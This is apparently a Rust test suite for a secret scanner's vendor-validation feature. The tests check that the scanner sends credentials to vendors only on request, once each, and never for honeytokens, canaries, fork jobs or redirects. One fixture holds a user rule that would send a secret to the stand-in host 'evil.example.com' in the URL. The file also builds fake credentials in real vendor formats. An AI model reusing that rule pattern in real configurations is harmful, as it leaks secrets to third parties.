//! Vendors are asked about what is found only when somebody wants it, about each credential once, and never with what may be bait.

use std::collections::{BTreeMap, BTreeSet};
use std::process::Command;

use honeycrate::scan::finding::Confidence;
use honeycrate::scan::rule_set::RuleSet;
use honeycrate::scan::validation::Method;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use tempfile::tempdir;

use crate::common::command::run;
use crate::common::honeycrate::{Honeycrate, Reported, list};
use crate::common::images::{Image, github_token};
use crate::common::registry::{Auth, Registry};
use crate::common::vendors::{Answer, Asked, Vendors};
use crate::schema::Schema;

/// Every host that a credential may be sent to: a rule that brings another one is seen here.
const HOSTS: [&str; 46] = [
    "api.airtable.com",
    "api.anthropic.com",
    "api.brevo.com",
    "api.buildkite.com",
    "api.cerebras.ai",
    "api.clickup.com",
    "api.cloudflare.com",
    "api.contentful.com",
    "api.datadoghq.com",
    "api.deepseek.com",
    "api.digitalocean.com",
    "api.doppler.com",
    "api.easypost.com",
    "api.figma.com",
    "api.getpostman.com",
    "api.github.com",
    "api.groq.com",
    "api.heroku.com",
    "api.hubapi.com",
    "api.linear.app",
    "api.mailgun.net",
    "api.mapbox.com",
    "api.netlify.com",
    "api.newrelic.com",
    "api.notion.com",
    "api.openai.com",
    "api.pinecone.io",
    "api.render.com",
    "api.replicate.com",
    "api.resend.com",
    "api.sendgrid.com",
    "api.snyk.io",
    "api.stripe.com",
    "api.supabase.com",
    "api.telegram.org",
    "api.together.xyz",
    "api.twilio.com",
    "api.vercel.com",
    "api.x.ai",
    "app.asana.com",
    "app.launchdarkly.com",
    "circleci.com",
    "discord.com",
    "huggingface.co",
    "openrouter.ai",
    "sentry.io",
];
/// Rules that ask with a body, which has to be looked at: it may only read.
const WITH_BODY: [&str; 2] = ["linear-api-key", "new-relic-key"];

/// Letters and digits that nobody gave out.
fn letters(seed: &str, count: usize, alphabet: &[u8]) -> String {
    let blocks = (0_u32..).flat_map(|block| Sha256::digest(format!("{seed}{block}")));
    blocks.take(count).map(|byte| char::from(alphabet[usize::from(byte) % alphabet.len()])).collect()
}

const BASE62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const HEX: &[u8] = b"0123456789abcdef";

fn stripe(seed: &str) -> String {
    ["sk", "_live_", &letters(seed, 40, BASE62)].concat()
}

fn notion(seed: &str) -> String {
    ["nt", "n_", &letters(seed, 46, BASE62)].concat()
}

fn replicate(seed: &str) -> String {
    ["r", "8_", &letters(seed, 37, BASE62)].concat()
}

fn digitalocean(seed: &str) -> String {
    ["do", "p_v1_", &letters(seed, 64, HEX)].concat()
}

fn telegram(seed: &str) -> String {
    ["8123456", "78:", "AA", &letters(seed, 33, BASE62)].concat()
}

fn twilio(seed: &str) -> (String, String) {
    (["A", "C", &letters(&format!("{seed}-id"), 32, HEX)].concat(), letters(seed, 32, HEX))
}

/// A vendor that accepts all.
fn generous(_: &Asked) -> Answer {
    Answer::Status(200, "{}")
}

fn validation<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
    list(report, "findings").iter().filter(|finding| finding["rule"] == rule).map(|finding| &finding["validation"]).collect()
}

/// A scan of a text, and its report.
fn scan(honeycrate: &Honeycrate, vendors: &Vendors, text: &str, flags: &[&str]) -> Reported {
    let path = honeycrate.home().join("config.env");
    std::fs::write(&path, text).expect("the home is writable");
    let mut command = honeycrate.command(&["scan", "config.env"]);
    let reported = honeycrate.reported(vendors.reach(command.args(flags)));
    assert_eq!(Schema::read().problem(&reported.report), None);
    reported
}

/// A job for a pull request from somebody else's copy of the repository.
fn as_fork<'a>(command: &'a mut Command, honeycrate: &Honeycrate) -> &'a mut Command {
    let event = honeycrate.home().join("event.json");
    let head = json!({ "pull_request": { "number": 1, "head": { "repo": { "full_name": "mallory/shop" } } } });
    std::fs::write(&event, head.to_string()).expect("the home is writable");
    command.env("GITHUB_ACTIONS", "true").env("CI", "true").env("GITHUB_EVENT_NAME", "pull_request");
    command.env("GITHUB_EVENT_PATH", event).env("GITHUB_REPOSITORY", "acme/shop")
}

#[test]
fn nobody_is_asked_unless_somebody_wants_it() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.stripe.com"], generous));
    let text = format!("KEY={}\n", stripe("off"));
    std::fs::write(honeycrate.home().join("honeycrate.yaml"), "validate: on\n").expect("the home is writable");
    // The flag goes over the file.
    let off = scan(&honeycrate, &vendors, &text, &["--validate=off"]);
    std::fs::remove_file(honeycrate.home().join("honeycrate.yaml")).expect("ours");
    for reported in [off, scan(&honeycrate, &vendors, &text, &[])] {
        assert_eq!(validation(&reported.report, "stripe-live-key"), [&Value::Null], "{}", reported.ran.all());
        assert!(!reported.ran.all().contains("vendor"), "{}", reported.ran.all());
    }
    assert_eq!(vendors.reached(), [""; 0]);
    std::fs::write(honeycrate.home().join("honeycrate.yaml"), "validate: on\n").expect("the home is writable");
    let on = scan(&honeycrate, &vendors, &text, &[]);
    assert_eq!(validation(&on.report, "stripe-live-key")[0]["state"], "live");
    assert_eq!(vendors.asked().len(), 1);
}

#[test]
fn what_vendors_say_is_told_and_the_values_never() {
    let (live, dead, tired, led, flooded, mute) =
        (notion("live"), stripe("dead"), [replicate("one"), replicate("two")], digitalocean("led"), telegram("flood"), github_token(77));
    let (account, token) = twilio("pair");
    let names = [
        "api.notion.com",
        "api.stripe.com",
        "api.replicate.com",
        "api.digitalocean.com",
        "api.telegram.org",
        "api.github.com",
        "api.twilio.com",
        "evil.example.com",
    ];
    let vendors = Vendors::start(&names, |asked| match asked.host.as_str() {
        "api.notion.com" => Answer::Status(200, r#"{"object":"user"}"#),
        "api.stripe.com" => Answer::Status(401, "{}"),
        "api.replicate.com" => Answer::Status(429, "{}"),
        "api.digitalocean.com" => Answer::Redirect("https://evil.example.com/"),
        "api.telegram.org" => Answer::Flood,
        "api.github.com" => Answer::Silence,
        "api.twilio.com" => Answer::Status(401, "{}"),
        _ => Answer::Status(200, "{}"),
    });
    let honeycrate = Honeycrate::stranger();
    let text = format!(
        "NOTION={live}\nSTRIPE={dead}\nA={}\nB={}\nDO={led}\nBOT {flooded}\nGH={mute}\ntwilio = Client(\"{account}\", \"{token}\")\n",
        tired[0], tired[1]
    );
    let mut outputs = String::new();
    let reported = scan(
        &honeycrate,
        &vendors,
        &text,
        &[
            "--validate",
            "--report",
            "r.html",
            "--report",
            "r.md",
            "--report",
            "r.sarif",
            "--report",
            "junit=r.xml",
            "--report",
            "gitlab-secret-detection=r.json",
        ],
    );
    outputs.push_str(&reported.ran.all());
    for file in ["report.json", "r.html", "r.md", "r.sarif", "r.xml", "r.json"] {
        outputs.push_str(&std::fs::read_to_string(honeycrate.home().join(file)).expect("it was asked for"));
    }
    let states = |rule: &str| -> Vec<(String, String)> {
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        validation(&reported.report, rule).into_iter().map(|found| (text(&found["state"]), text(&found["why"]))).collect()
    };
    let one = |rule: &str, state: &str, why: &str| {
        let found = states(rule);
        assert!(found.len() == 1 && found[0].0 == state && found[0].1.contains(why), "{rule}: {found:?}\n{}", reported.ran.all());
    };
    one("notion-token", "live", "the vendor accepted it: api.notion.com answered 200");
    one("stripe-live-key", "dead", "the vendor refused it: api.stripe.com answered 401");
    one("digitalocean-token", "unknown", "answered 302, and nobody follows a redirect");
    one("telegram-bot-token", "unknown", "longer than 64 KiB");
    one("github-personal-token", "unknown", "did not answer within 10 seconds");
    one("twilio-api-key-pair", "unknown", "another server or region");
    let both = states("replicate-api-token");
    assert!(both.len() == 2 && both.iter().all(|(_, why)| why.contains("had enough questions")), "{both:?}");

    // A medium credential that is alive is critical, comes first, and says why.
    let first = &list(&reported.report, "findings")[0];
    let at = first["validation"]["at"].as_str().expect("a time");
    assert!(first["rule"] == "notion-token" && first["severity"] == "critical" && first["confidence"] == "high", "{first}");
    assert_eq!(first["why"], format!("the vendor accepted it at {at}"));
    let dead_one = list(&reported.report, "findings").iter().find(|finding| finding["rule"] == "stripe-live-key").expect("found");
    assert_eq!((&dead_one["severity"], &dead_one["confidence"]), (&json!("critical"), &json!("high")));
    assert!(reported.ran.out().contains("vendor  live: the vendor accepted it: api.notion.com answered 200"), "{}", reported.ran.out());

    // Each was asked about as its vendor's page says, once, by nobody but us.
    let asked: BTreeMap<String, Asked> = vendors.asked().into_iter().map(|asked| (asked.host.clone(), asked)).collect();
    let of = |host: &str| asked.get(host).unwrap_or_else(|| panic!("{host} was not asked"));
    assert_eq!((of("api.notion.com").line.as_str(), of("api.notion.com").header("notion-version")), ("GET /v1/users/me", Some("2022-06-28")));
    assert_eq!(of("api.notion.com").header("authorization"), Some(format!("Bearer {live}").as_str()));
    assert_eq!(of("api.telegram.org").line, format!("GET /bot{flooded}/getMe"));
    assert_eq!(of("api.twilio.com").line, format!("GET /2010-04-01/Accounts/{account}.json"));
    assert!(of("api.twilio.com").header("authorization").is_some_and(|value| value.starts_with("Basic ")));
    assert!(asked.values().all(|asked| asked.header("user-agent").is_some_and(|agent| agent.starts_with("honeycrate/")) && asked.body.is_empty()));
    assert!(!vendors.reached().iter().any(|line| line.contains("evil")), "{:?}", vendors.reached());
    let hosts: Vec<String> = vendors.asked().into_iter().map(|asked| asked.host).filter(|host| host != "api.replicate.com").collect();
    assert_eq!(hosts.iter().collect::<BTreeSet<_>>().len(), hosts.len(), "{hosts:?}");

    for value in [&live, &dead, &tired[0], &tired[1], &led, &flooded, &mute, &token] {
        assert!(!outputs.contains(value.as_str()), "a value is in an output");
    }
    for format in ["r.html", "r.md", "r.sarif", "r.xml", "r.json"] {
        let text = std::fs::read_to_string(honeycrate.home().join(format)).expect("it was asked for");
        assert!(text.contains("api.notion.com answered 200"), "{format}");
    }
}

#[test]
fn one_secret_in_a_hundred_places_is_asked_about_once() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.stripe.com"], generous));
    let folder = honeycrate.home().join("work");
    std::fs::create_dir(&folder).expect("the home is writable");
    for number in 0..100 {
        std::fs::write(folder.join(format!("{number}.env")), format!("KEY={}\n", stripe("many"))).expect("ours");
    }
    let reported = honeycrate.reported(vendors.reach(&mut honeycrate.command(&["scan", "work", "--validate"])));
    assert_eq!(validation(&reported.report, "stripe-live-key")[0]["state"], "live", "{}", reported.ran.all());
    assert_eq!(list(&reported.report, "findings")[0]["also_in"], 99);
    assert_eq!(vendors.asked().len(), 1);
}

#[test]
fn bait_and_what_may_be_bait_is_never_sent() {
    let (honeycrate, vendors, layout) = (Honeycrate::new(), Vendors::start(&["api.stripe.com"], generous), tempdir().expect("scratch"));
    let planted = layout.path().join("planted");
    let source = Image::shop().write(layout.path());
    let out = format!("oci:{}:shop", planted.display());
    let ran = honeycrate.run(&["plant", &source, "--out", &out, "--env", "production", "--service", "shop", "--decoy", "http://127.0.0.1:9"]);
    assert_eq!(ran.code, 0, "{}", ran.all());
    // The owner sees none of it; a stranger sees credentials, and knows better than to try them.
    for own in [honeycrate, Honeycrate::stranger()] {
        let reported = own.reported(vendors.reach(&mut own.command(&["scan", &out, "--validate"])));
        assert_eq!(vendors.reached(), [""; 0], "{}", reported.ran.all());
    }
    let rules = RuleSet::builtin();
    let example = |rule: &str| rules.get(rule).unwrap_or_else(|| panic!("{rule}")).examples[0].clone();
    let kinds = ["aws-key-pair", "gitlab-personal-token", "npm-access-token", "slack-token", "vault-token", "pypi-api-token"];
    let text: String = kinds.iter().map(|rule| example(rule) + "\n\n\n").collect();
    let own = Honeycrate::stranger();
    let reported = scan(&own, &vendors, &text, &["--validate"]);
    let findings = list(&reported.report, "findings");
    assert!(kinds.iter().all(|rule| findings.iter().any(|finding| finding["rule"] == *rule)), "{}", reported.ran.all());
    for finding in findings {
        assert_eq!(finding["validation"]["state"], "not-asked", "{finding}");
        assert!(finding["validation"]["why"].as_str().is_some_and(|why| why.contains("honeytoken")), "{finding}");
    }
    // A published canary account is named, offline.
    let canary = ["AKIA", "SP2TPHJSQH3FJRUX"].concat();
    let reported = scan(&own, &vendors, &format!("aws_access_key_id = {canary}\n"), &["--validate"]);
    let found = &list(&reported.report, "findings")[0];
    assert!(found["validation"]["why"].as_str().is_some_and(|why| why.contains("published canaries")), "{found}");
    assert_eq!(vendors.reached(), [""; 0]);
}

#[test]
fn a_strangers_change_asks_nobody_and_says_so() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.stripe.com"], generous));
    std::fs::write(honeycrate.home().join("config.env"), format!("KEY={}\n", stripe("fork"))).expect("ours");
    let mut command = honeycrate.command(&["scan", "config.env", "--validate"]);
    let reported = honeycrate.reported(vendors.reach(as_fork(&mut command, &honeycrate)));
    let found = validation(&reported.report, "stripe-live-key");
    assert!(found[0]["state"] == "not-asked" && found[0]["why"].as_str().is_some_and(|why| why.contains("may not send")), "{found:?}");
    assert!(reported.ran.out().contains("no vendor was asked"), "{}", reported.ran.all());
    assert_eq!((reported.ran.code, vendors.reached()), (1, Vec::new()));
}

#[test]
fn a_host_that_cannot_be_reached_is_not_tried_for_each_credential() {
    // It shows the certificate of another one.
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.notion.com"], generous));
    let text: String = (0..20).map(|number| format!("KEY_{number}={}\n", stripe(&number.to_string()))).collect();
    let reported = scan(&honeycrate, &vendors, &text, &["--validate"]);
    let found = validation(&reported.report, "stripe-live-key");
    let (unknown, not_asked): (Vec<&Value>, Vec<&Value>) = found.into_iter().partition(|found| found["state"] == "unknown");
    assert!(unknown.iter().all(|found| found["why"] == "api.stripe.com cannot be reached"), "{unknown:?}");
    assert!(not_asked.iter().all(|found| found["why"] == "api.stripe.com could not be reached for another question"), "{not_asked:?}");
    // As many as are asked at the same time.
    assert!((1..=4).contains(&unknown.len()) && unknown.len() + not_asked.len() == 20, "{}", reported.ran.all());
    assert_eq!((vendors.reached().len(), vendors.asked()), (unknown.len(), Vec::new()));
}

#[test]
fn in_a_job_of_an_unknown_forge_the_command_line_asks_and_no_file() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.stripe.com"], generous));
    std::fs::write(honeycrate.home().join("config.env"), format!("KEY={}\n", stripe("job"))).expect("ours");
    std::fs::write(honeycrate.home().join("honeycrate.yaml"), "validate: on\n").expect("the home is writable");
    let scan = |job: (&str, &str), flags: &[&str]| {
        let mut command = honeycrate.command(&["scan", "config.env"]);
        honeycrate.reported(vendors.reach(command.args(flags).env(job.0, job.1)))
    };
    for job in [("CI", "true"), ("JENKINS_URL", "https://ci.acme.example/")] {
        let reported = scan(job, &[]);
        let found = validation(&reported.report, "stripe-live-key");
        assert!(found[0]["state"] == "not-asked" && found[0]["why"].as_str().is_some_and(|why| why.contains("cannot tell")), "{found:?}");
        let notices = reported.report["notices"].to_string();
        assert!(notices.contains("give --validate on the command line of the job"), "{notices}");
    }
    assert_eq!(vendors.reached(), [""; 0]);
    for (job, flags, all) in [(("CI", "true"), &["--validate"][..], 1), (("CI", "false"), &[], 2)] {
        let reported = scan(job, flags);
        assert_eq!(validation(&reported.report, "stripe-live-key")[0]["state"], "live", "{}", reported.ran.all());
        assert_eq!(vendors.asked().len(), all);
    }
}

#[test]
fn no_configuration_flag_or_variable_of_ours_says_whom_to_trust_for_a_vendor() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["api.stripe.com"], generous));
    let ca = vendors.ca().display().to_string();
    let text = format!("KEY={}\n", stripe("middle"));
    std::fs::write(honeycrate.home().join("config.env"), text).expect("the home is writable");
    std::fs::write(honeycrate.home().join("honeycrate.yaml"), format!("validate: on\nregistry: {{ ca-file: {ca} }}\n"))
        .expect("the home is writable");
    let scan = |system: &[(&str, &str)]| {
        let mut command = honeycrate.command(&["scan", "config.env", "--ca-file", &ca]);
        vendors.reach(command.env("HONEYCRATE_CA_FILE", &ca)).env_remove("SSL_CERT_FILE").envs(system.iter().copied());
        honeycrate.reported(&mut command)
    };
    let reported = scan(&[]);
    let found = validation(&reported.report, "stripe-live-key");
    assert!(found[0]["state"] == "unknown" && found[0]["why"] == "api.stripe.com cannot be reached", "{found:?}");
    // Somebody was there, and was told nothing.
    assert_eq!((vendors.reached().len(), vendors.asked()), (1, Vec::new()), "{}", reported.ran.all());
    let reported = scan(&[("SSL_CERT_FILE", &ca)]);
    assert_eq!(validation(&reported.report, "stripe-live-key")[0]["state"], "live", "{}", reported.ran.all());
}

#[test]
fn a_layer_that_is_known_is_read_again_for_its_secret_and_the_others_are_not() {
    let (honeycrate, vendors, layout) = (Honeycrate::new(), Vendors::start(&["api.stripe.com"], generous), tempdir().expect("scratch"));
    let secret = stripe("layer");
    let image = Image::shop().layer("COPY .env .", &[("app/.env", &format!("KEY={secret}\n"))]).layer("COPY b .", &[("app/b", "nothing\n")]);
    let source = image.write(layout.path());
    let scan = |flags: &[&str]| honeycrate.reported(vendors.reach(honeycrate.command(&["scan", &source]).args(flags)));
    let cached = |reported: &Reported| reported.report["coverage"]["cached_layers"].as_u64().unwrap_or(0);
    let first = scan(&[]);
    let all = first.report["coverage"]["layers"].as_u64().expect("layers");
    assert_eq!((cached(&first), cached(&scan(&[]))), (0, all));
    for round in 1..=2 {
        let reported = scan(&["--validate"]);
        assert_eq!(validation(&reported.report, "stripe-live-key")[0]["state"], "live", "{}", reported.ran.all());
        assert_eq!((cached(&reported), vendors.asked().len()), (all - 1, round));
    }
    let plain = scan(&[]);
    assert_eq!((cached(&plain), validation(&plain.report, "stripe-live-key")), (all, vec![&Value::Null]));
}

#[test]
fn a_live_finding_stops_an_image_of_which_nothing_has_left() {
    let (registry, vendors, layout) = (Registry::plain(Auth::None), Vendors::start(&["api.notion.com"], generous), tempdir().expect("scratch"));
    let honeycrate = Honeycrate::new();
    let source = Image::shop().layer("COPY .env .", &[("app/.env", &format!("KEY={}\n", notion("ship")))]).write(layout.path());
    let ship = |flags: &[&str]| {
        run(vendors.reach(honeycrate.ship(&source, &registry, "acme/shop").args(["--no-plant", "--fail-on", "critical"]).args(flags)))
    };
    let stopped = ship(&["--validate"]);
    assert_eq!((stopped.code, registry.writes().len()), (1, 0), "{}", stopped.all());
    assert_eq!(vendors.asked().len(), 1);
    let passed = ship(&[]);
    assert_eq!(passed.code, 0, "{}", passed.all());
}

#[test]
fn no_file_of_a_user_sends_anything_anywhere() {
    let (honeycrate, vendors) = (Honeycrate::stranger(), Vendors::start(&["evil.example.com"], generous));
    let rule = "vendor: Acme\nrules:\n  - {id: acme-token, name: Acme token, severity: high, confidence: high, literals: [acme_], \
                pattern: 'acme_[0-9a-f]{16}', gain: A., revoke: B., validate: {get: 'https://evil.example.com/{{secret}}', live: [200]}}\n";
    std::fs::write(honeycrate.home().join("acme.yaml"), rule).expect("the home is writable");
    let text = ["ac", "me_0123456789abcdef\n"].concat();
    let reported = scan(&honeycrate, &vendors, &text, &["--rules", "acme.yaml", "--validate"]);
    let found = validation(&reported.report, "acme-token");
    assert!(found[0]["state"] == "not-asked" && found[0]["why"].as_str().is_some_and(|why| why.contains("no question")), "{found:?}");
    assert!(reported.ran.all().contains("only built-in rules ask vendors: acme-token"), "{}", reported.ran.all());
    assert_eq!(vendors.reached(), [""; 0]);
    std::fs::write(honeycrate.home().join("acme.yaml"), rule.replace("https://evil", "http://evil")).expect("ours");
    let ran = honeycrate.run(&["rules", "test", "acme.yaml"]);
    assert!(ran.code == 2 && ran.err().contains("`validate`: the address is not `https://`"), "{}", ran.all());
}

#[test]
fn every_question_is_known_here_and_stands_on_a_page_of_its_vendor() {
    let rules = RuleSet::builtin();
    let asking: Vec<_> = rules.iter().filter_map(|rule| Some((rule, rule.question()?))).collect();
    let hosts: BTreeSet<&str> = asking.iter().map(|(_, question)| question.host()).collect();
    assert_eq!(hosts.into_iter().collect::<Vec<_>>(), HOSTS);
    let with_body: Vec<&str> = asking.iter().filter(|(_, question)| question.method == Method::Post).map(|(rule, _)| rule.id.as_str()).collect();
    assert_eq!(with_body, WITH_BODY);
    for (rule, question) in &asking {
        assert!(rule.references.len() >= 2 && rule.confidence > Confidence::Low && !rule.generic && !rule.self_made, "{}", rule.id);
        assert!(question.body.as_ref().is_none_or(|body| !body.contains("mutation")), "{}", rule.id);
    }
}
